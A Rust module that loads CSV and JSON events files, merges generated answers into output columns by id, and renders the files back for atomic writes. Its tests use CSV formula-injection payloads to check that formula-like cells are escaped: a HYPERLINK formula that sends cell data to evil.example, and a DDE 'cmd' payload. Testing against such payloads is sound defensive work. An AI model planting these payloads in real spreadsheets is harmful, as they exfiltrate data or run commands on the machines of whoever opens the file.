//! A whole events file in memory, for the merge: [`EventsFile`] keeps every record (CSV) or entry
//! (JSON, fields in file order) as read, sets the answers into the four output columns by id,
//! keeping every other column or field as it was, and renders the file in its format for an
//! atomic write.

use std::path::{Path, PathBuf};

use serde_json::Value;

use almanac_core::domain::{Generated, RowId};
use almanac_core::output::HEADERS;

use crate::atomic::write_atomic;
use crate::formula::CsvCells;
use crate::scan::scan;
use crate::source::{Raw, Source};
use crate::types::{Fields, FileError, FileRow, Format, err};

#[derive(Clone, Debug)]
enum Body {
    Csv {
        headers: Vec<String>,
        records: Vec<Vec<String>>,
    },
    JsonObject(Vec<(String, Fields)>),
    JsonArray(Vec<Fields>),
}

/// A parsed events file, ready to be merged and written.
#[derive(Clone, Debug)]
pub struct EventsFile {
    /// Where it was read from.
    pub path: PathBuf,
    /// Its format.
    pub format: Format,
    body: Body,
    rows: Vec<FileRow>,
    /// The file began with a UTF-8 byte-order mark (Excel's "CSV UTF-8"); it is written back.
    bom: bool,
}

/// What [`EventsFile::merge`] changed.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct MergeReport {
    /// Rows that got at least one value.
    pub rows_written: usize,
    /// Cells (fields) set.
    pub cells_written: usize,
    /// Rows with an answer whose four outputs were all filled already (left as they were).
    pub rows_already_filled: usize,
    /// Answers whose id is not in the file.
    pub unknown_ids: usize,
}

impl EventsFile {
    /// Reads and checks a file.
    ///
    /// # Errors
    /// [`FileError`] naming the line and the problem: unreadable file, not UTF-8 (UTF-16, CP949…),
    /// malformed CSV (a record with the wrong number of fields, a stray quote), no `id` or `title`
    /// column, malformed JSON, an entry that is not an object or lacks `id`/`title`, an entry key
    /// that differs from its `id`, or an id used twice.
    pub fn read(path: &Path) -> Result<EventsFile, FileError> {
        let format = Format::from_path(path)?;
        EventsFile::scan(path, Source::File(path), format)
    }

    /// Reads all of `source` into a file (every record or entry kept for the merge and the
    /// rewrite).
    fn scan(path: &Path, source: Source<'_>, format: Format) -> Result<EventsFile, FileError> {
        let mut rows = Vec::new();
        let mut records: Vec<Vec<String>> = Vec::new();
        let mut entries: Vec<(Option<String>, Fields)> = Vec::new();
        let scanned = scan(source, format, &mut |raw, row| {
            match raw {
                Raw::Csv(record) => records.push(record.iter().map(str::to_owned).collect()),
                Raw::Json(key, fields) => entries.push((key, fields)),
            }
            rows.push(row);
            Ok(())
        })?;
        let body = match scanned.headers {
            Some(headers) => Body::Csv { headers, records },
            None if scanned.keyed => Body::JsonObject(
                entries
                    .into_iter()
                    .map(|(key, fields)| (key.unwrap_or_default(), fields))
                    .collect(),
            ),
            None => Body::JsonArray(entries.into_iter().map(|(_, fields)| fields).collect()),
        };
        Ok(EventsFile {
            path: path.to_owned(),
            format,
            body,
            rows,
            bom: scanned.bom,
        })
    }

    /// Builds a file from sheet rows (the first row is the header), as `sheet pull` saves them.
    /// Columns without a header name are dropped; rows with an empty id are kept in CSV and left
    /// out of JSON (an object needs a key). In CSV every cell (from someone's sheet) is written
    /// by `cells`; JSON values are the sheet's.
    ///
    /// # Errors
    /// [`FileError`] when the header has no `id` or `title`, or an id is used twice.
    pub fn from_grid(
        path: &Path,
        format: Format,
        grid: &[Vec<String>],
        cells: CsvCells,
    ) -> Result<EventsFile, FileError> {
        let header: Vec<String> = grid.first().cloned().unwrap_or_default();
        let width = header
            .iter()
            .rposition(|h| !h.trim().is_empty())
            .map_or(0, |i| i + 1);
        let headers: Vec<String> = header[..width]
            .iter()
            .map(|h| h.trim().to_owned())
            .collect();
        let records: Vec<Vec<String>> = grid
            .iter()
            .skip(1)
            .map(|r| {
                (0..width)
                    .map(|i| r.get(i).cloned().unwrap_or_default())
                    .collect()
            })
            .collect();
        let mut out = String::new();
        {
            let mut w = csv::WriterBuilder::new()
                .terminator(csv::Terminator::Any(b'\n'))
                .from_writer(string_sink(&mut out));
            w.write_record(&headers)
                .map_err(|e| err(path, None, e.to_string()))?;
            for r in &records {
                w.write_record(r)
                    .map_err(|e| err(path, None, e.to_string()))?;
            }
            w.flush().map_err(|e| err(path, None, e.to_string()))?;
        }
        let mut file = EventsFile::scan(path, Source::Bytes(path, out.as_bytes()), Format::Csv)?;
        file.bom = false;
        match format {
            Format::Json => file.convert_to_json_object(),
            Format::Csv => file.apply_to_csv_cells(cells),
        }
        Ok(file)
    }

    /// Every data row, in file order.
    pub fn rows(&self) -> &[FileRow] {
        &self.rows
    }

    /// Sets the answers into the output columns, by id. A cell that already holds text is kept
    /// unless `overwrite`. CSV files without some output columns get them appended to the header;
    /// JSON entries without an output field get it appended. In a CSV file an answer is written by
    /// `cells` (escaped when it looks like a formula, or raw); every other cell stays as the file
    /// had it, and JSON values are never changed.
    pub fn merge(
        &mut self,
        answers: &[(RowId, Generated)],
        overwrite: bool,
        cells: CsvCells,
    ) -> MergeReport {
        let mut report = MergeReport::default();
        let index: std::collections::HashMap<&str, usize> =
            self.rows.iter().map(|r| (r.id.as_str(), r.index)).collect();
        let mut targets = Vec::new();
        for (id, g) in answers {
            match index.get(id.as_str()) {
                Some(&i) => targets.push((i, g.clone())),
                None => report.unknown_ids += 1,
            }
        }
        if let Body::Csv { headers, records } = &mut self.body {
            for name in HEADERS {
                if !headers.iter().any(|h| h.trim().eq_ignore_ascii_case(name)) {
                    headers.push(name.to_owned());
                    for r in records.iter_mut() {
                        r.push(String::new());
                    }
                }
            }
        }
        for (i, g) in targets {
            let values = g.columns();
            let mut written = 0;
            for (k, value) in values.iter().enumerate() {
                let current = &self.rows[i].outputs[k];
                if !overwrite && !current.trim().is_empty() {
                    continue;
                }
                self.set(i, HEADERS[k], value, cells);
                self.rows[i].outputs[k] = (*value).to_owned();
                written += 1;
            }
            if written > 0 {
                report.rows_written += 1;
                report.cells_written += written;
            } else {
                report.rows_already_filled += 1;
            }
        }
        report
    }

    fn set(&mut self, index: usize, field: &str, value: &str, cells: CsvCells) {
        match &mut self.body {
            Body::Csv { headers, records } => {
                if let Some(col) = headers
                    .iter()
                    .position(|h| h.trim().eq_ignore_ascii_case(field))
                {
                    records[index][col] = cells.apply(value).into_owned();
                }
            }
            Body::JsonObject(entries) => set_field(&mut entries[index].1, field, value),
            Body::JsonArray(entries) => set_field(&mut entries[index], field, value),
        }
    }

    /// Writes every cell of a CSV body, the header's too, by `cells`.
    fn apply_to_csv_cells(&mut self, cells: CsvCells) {
        if let Body::Csv { headers, records } = &mut self.body {
            for cell in headers.iter_mut().chain(records.iter_mut().flatten()) {
                if let std::borrow::Cow::Owned(escaped) = cells.apply(cell) {
                    *cell = escaped;
                }
            }
        }
    }

    fn convert_to_json_object(&mut self) {
        if let Body::Csv { headers, records } = &self.body {
            let entries = records
                .iter()
                .zip(&self.rows)
                .filter(|(_, row)| !row.id.is_empty())
                .map(|(r, row)| {
                    let fields = headers
                        .iter()
                        .zip(r)
                        .map(|(h, v)| (h.clone(), Value::String(v.clone())))
                        .collect();
                    (row.id.clone(), fields)
                })
                .collect();
            self.rows.retain(|r| !r.id.is_empty());
            for (i, r) in self.rows.iter_mut().enumerate() {
                r.index = i;
            }
            self.body = Body::JsonObject(entries);
            self.format = Format::Json;
        }
    }

    /// The file's text in its format: CSV with `\n` line ends; JSON indented by two spaces, entries
    /// and fields in their original order, non-ASCII text as is.
    pub fn render(&self) -> String {
        match &self.body {
            Body::Csv { headers, records } => {
                let mut out = String::new();
                if self.bom {
                    out.push('\u{feff}');
                }
                {
                    let mut w = csv::WriterBuilder::new()
                        .terminator(csv::Terminator::Any(b'\n'))
                        .from_writer(string_sink(&mut out));
                    // Writing to a String cannot fail.
                    let _ = w.write_record(headers);
                    for r in records {
                        let _ = w.write_record(r);
                    }
                    let _ = w.flush();
                }
                out
            }
            Body::JsonObject(entries) => {
                let mut out = String::from("{\n");
                for (n, (key, fields)) in entries.iter().enumerate() {
                    out.push_str(&format!("  {}: ", json_string(key)));
                    render_fields(&mut out, fields);
                    out.push_str(if n + 1 < entries.len() { ",\n" } else { "\n" });
                }
                out.push_str("}\n");
                out
            }
            Body::JsonArray(entries) => {
                let mut out = String::from("[\n");
                for (n, fields) in entries.iter().enumerate() {
                    out.push_str("  ");
                    render_fields(&mut out, fields);
                    out.push_str(if n + 1 < entries.len() { ",\n" } else { "\n" });
                }
                out.push_str("]\n");
                out
            }
        }
    }

    /// Writes [`EventsFile::render`] to `path` atomically: a temporary file in the same folder,
    /// flushed to disk, then renamed over `path`.
    ///
    /// # Errors
    /// [`FileError`] when the folder is not writable or the disk is full; `path` is then untouched.
    pub fn write_atomic(&self, path: &Path) -> Result<(), FileError> {
        write_atomic(path, self.render().as_bytes())
    }
}

/// Lets `csv::Writer` write into a `String` (it is only given `&str` fields, so its output is
/// UTF-8; a non-UTF-8 chunk would be refused, never stored).
fn string_sink(out: &mut String) -> StringSink<'_> {
    StringSink(out)
}

struct StringSink<'a>(&'a mut String);

impl std::io::Write for StringSink<'_> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let s = std::str::from_utf8(buf)
            .map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
        self.0.push_str(s);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn json_string(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_else(|_| "\"\"".into())
}

fn render_fields(out: &mut String, fields: &Fields) {
    out.push_str("{\n");
    for (n, (k, v)) in fields.iter().enumerate() {
        let value = serde_json::to_string(v).unwrap_or_else(|_| "null".into());
        out.push_str(&format!("    {}: {value}", json_string(k)));
        out.push_str(if n + 1 < fields.len() { ",\n" } else { "\n" });
    }
    out.push_str("  }");
}

fn set_field(fields: &mut Fields, name: &str, value: &str) {
    match fields.iter_mut().find(|(k, _)| k == name) {
        Some((_, v)) => *v = Value::String(value.to_owned()),
        None => fields.push((name.to_owned(), Value::String(value.to_owned()))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(name: &str, bytes: &[u8]) -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        (dir, path)
    }

    fn answer(id: &str) -> (RowId, Generated) {
        (
            RowId::parse(id).unwrap(),
            Generated {
                year: "1945".into(),
                simple: format!("s {id}"),
                detail: "d, with \"quotes\"".into(),
                related_movies: "m".into(),
            },
        )
    }

    #[test]
    fn csv_merge_keeps_other_columns_and_filled_cells_and_adds_missing_outputs() {
        let (_d, path) = write(
            "a.csv",
            b"id,title,year,note\n1,One,,keep me\n2,Two,1999,x\n",
        );
        let mut file = EventsFile::read(&path).unwrap();
        assert_eq!(file.rows()[1].line, 3);
        let report = file.merge(&[answer("1"), answer("2")], false, CsvCells::Escaped);
        assert_eq!(report.rows_written, 2);
        assert_eq!(
            file.render(),
            "id,title,year,note,content_simple,content_detailed,related_movies\n1,One,1945,keep me,s 1,\"d, with \"\"quotes\"\"\",m\n2,Two,1999,x,s 2,\"d, with \"\"quotes\"\"\",m\n"
        );
    }

    #[test]
    fn formula_like_answers_merged_into_a_csv_are_escaped_unless_raw_and_the_files_cells_kept() {
        let evil = || {
            let mut evil = answer("1");
            evil.1.simple = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
            evil.1.year = "-500".into();
            evil
        };
        let read = || {
            let (dir, path) = write("a.csv", b"id,title,note\n1,-50 degrees,=1+1\n2,Two,x\n");
            (dir, EventsFile::read(&path).unwrap())
        };
        let (_d, mut file) = read();
        file.merge(&[evil(), answer("2")], true, CsvCells::Escaped);
        let escaped = file.render();
        let mut lines = escaped.lines().skip(1);
        assert_eq!(
            lines.next().unwrap(),
            "1,-50 degrees,=1+1,'-500,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",\"d, with \"\"quotes\"\"\",m",
            "the answers escaped, the file's own cells as they were"
        );
        assert_eq!(
            lines.next().unwrap(),
            "2,Two,x,1945,s 2,\"d, with \"\"quotes\"\"\",m"
        );
        let (_d, mut file) = read();
        file.merge(&[evil()], true, CsvCells::Raw);
        assert!(
            file.render()
                .contains("1,-50 degrees,=1+1,-500,\"=HYPERLINK("),
            "{}",
            file.render()
        );

        let (_d, path) = write("a.json", b"[{\"id\": \"1\", \"title\": \"=One\"}]");
        let mut file = EventsFile::read(&path).unwrap();
        file.merge(&[evil()], true, CsvCells::Escaped);
        let json: Value = serde_json::from_str(&file.render()).unwrap();
        assert_eq!(json[0]["year"], "-500", "JSON is unchanged");
        assert_eq!(json[0]["content_simple"], evil().1.simple);
    }

    #[test]
    fn a_sheet_saved_as_csv_has_every_formula_like_cell_escaped_unless_raw() {
        let grid: Vec<Vec<String>> = [["id", "title"], ["-1", "=cmd|' /C calc'!A0"]]
            .iter()
            .map(|r| r.iter().map(|c| (*c).to_owned()).collect())
            .collect();
        let dir = tempfile::tempdir().unwrap();
        let csv = dir.path().join("s.csv");
        let file = EventsFile::from_grid(&csv, Format::Csv, &grid, CsvCells::Escaped).unwrap();
        assert_eq!(file.render(), "id,title\n'-1,'=cmd|' /C calc'!A0\n");
        let file = EventsFile::from_grid(&csv, Format::Csv, &grid, CsvCells::Raw).unwrap();
        assert_eq!(file.render(), "id,title\n-1,=cmd|' /C calc'!A0\n");
        let json = dir.path().join("s.json");
        let file = EventsFile::from_grid(&json, Format::Json, &grid, CsvCells::Escaped).unwrap();
        let doc: Value = serde_json::from_str(&file.render()).unwrap();
        assert_eq!(doc["-1"]["title"], "=cmd|' /C calc'!A0");
    }

    #[test]
    fn json_object_keeps_entry_and_field_order() {
        let (_d, path) = write(
            "a.json",
            "{\n  \"b\": {\"id\": \"b\", \"title\": \"나\", \"year\": \"\", \"imageUrl\": \"x.png\"},\n  \"a\": {\"title\": \"A\"}\n}".as_bytes(),
        );
        let mut file = EventsFile::read(&path).unwrap();
        assert_eq!(file.rows()[1].line, 3);
        file.merge(&[answer("b")], false, CsvCells::Escaped);
        let out = file.render();
        assert!(
            out.find("\"b\"").unwrap() < out.find("\"a\"").unwrap(),
            "{out}"
        );
        assert!(out.contains("\"title\": \"나\",\n    \"year\": \"1945\",\n    \"imageUrl\": \"x.png\",\n    \"content_simple\""), "{out}");
        let back: Value = serde_json::from_str(&out).unwrap();
        assert_eq!(back["a"], serde_json::json!({"title": "A"}));
    }

    #[test]
    fn a_json_array_and_a_csv_with_a_byte_order_mark_round_trip() {
        let (_d, path) = write(
            "a.json",
            b"[{\"id\": \"x\", \"title\": \"X\", \"extra\": 3}, {\"id\": \"y\", \"title\": \"Y\"}]",
        );
        let mut file = EventsFile::read(&path).unwrap();
        file.merge(&[answer("y")], false, CsvCells::Escaped);
        let back: Value = serde_json::from_str(&file.render()).unwrap();
        assert_eq!(
            back[0],
            serde_json::json!({"id": "x", "title": "X", "extra": 3})
        );
        assert_eq!(back[1]["content_simple"], "s y");

        let (_d, path) = write("b.csv", "\u{feff}id,title\n1,가\n".as_bytes());
        let mut file = EventsFile::read(&path).unwrap();
        assert_eq!(file.rows()[0].id, "1");
        file.merge(&[answer("1")], false, CsvCells::Escaped);
        assert!(file.render().starts_with("\u{feff}id,title,year,"));
    }

    #[test]
    fn bad_files_name_the_line_and_the_problem() {
        let cases: [(&str, &[u8], u64, &str); 6] = [
            (
                "a.csv",
                b"id,title\n1,One\n2,Two,extra\n",
                3,
                "fields but the header has 2",
            ),
            (
                "b.csv",
                b"key,name\n1,One\n",
                1,
                "no `id` or `title` column",
            ),
            (
                "c.csv",
                b"id,title\n1,One\n2,Two\n1,Again\n",
                4,
                "id `1` is used again (first on line 2)",
            ),
            ("d.csv", b"id,title\n1,\xB0\xA1\n", 2, "not valid UTF-8"),
            ("e.csv", b"\xFF\xFEi\x00d\x00", 1, "UTF-16"),
            (
                "f.json",
                b"{\n \"a\": {\"title\": \"x\"},\n \"b\": {\"id\": \"c\", \"title\": \"y\"}\n}",
                3,
                "key and the `id` field",
            ),
        ];
        for (name, bytes, line, needle) in cases {
            let (_d, path) = write(name, bytes);
            let e = EventsFile::read(&path).unwrap_err();
            assert_eq!(e.line, Some(line), "{name}: {e}");
            assert!(e.message.contains(needle), "{name}: {e}");
            assert!(
                e.to_string()
                    .starts_with(&format!("{}:{line}: ", path.display())),
                "{e}"
            );
        }
    }
}
